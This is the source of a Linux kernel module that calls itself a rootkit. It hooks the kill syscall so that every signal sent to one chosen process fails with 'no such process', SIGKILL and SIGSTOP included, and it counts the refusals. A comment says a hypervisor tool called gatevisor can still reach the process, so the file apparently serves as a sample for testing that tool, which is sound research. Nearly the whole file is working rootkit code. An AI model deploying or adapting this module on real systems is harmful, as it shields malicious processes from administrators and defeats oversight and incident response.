// SPDX-License-Identifier: GPL-2.0
/*
 * rk_protect pid=N: a rootkit guarding its own process: kill(2) of pid N
 * fails with ESRCH whatever the signal (SIGKILL and SIGSTOP too), as if
 * there were no such process; other kills go through. kill reaches this
 * module through a patched x64_sys_call branch. In-guest tools can then
 * neither stop nor kill the process; gatevisor proc, which makes the
 * kernel signal it without the syscall, still can.
 */
#include "rk_common.h"

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "the process kill(2) cannot reach");

static unsigned long refused;
module_param(refused, ulong, 0444);
MODULE_PARM_DESC(refused, "kills of the protected process refused so far");

static long rk_protect_kill(const struct pt_regs *regs);

static struct rk_dispatch patch = {
	.handler = "__x64_sys_kill",
	.hook = rk_protect_kill,
};

static long rk_protect_kill(const struct pt_regs *regs)
{
	long ret;

	rk_enter();
	if (pid > 0 && (int)regs->di == pid) {
		refused++;
		ret = -ESRCH;
	} else {
		ret = patch.orig(regs);
	}
	rk_leave();
	return ret;
}

static int __init rk_protect_init(void)
{
	int ret = rk_init_kallsyms();

	return ret ? ret : rk_dispatch_patch(&patch);
}

static void __exit rk_protect_exit(void)
{
	rk_dispatch_unpatch(&patch);
	rk_drain();
}

module_init(rk_protect_init);
module_exit(rk_protect_exit);
MODULE_LICENSE("GPL");
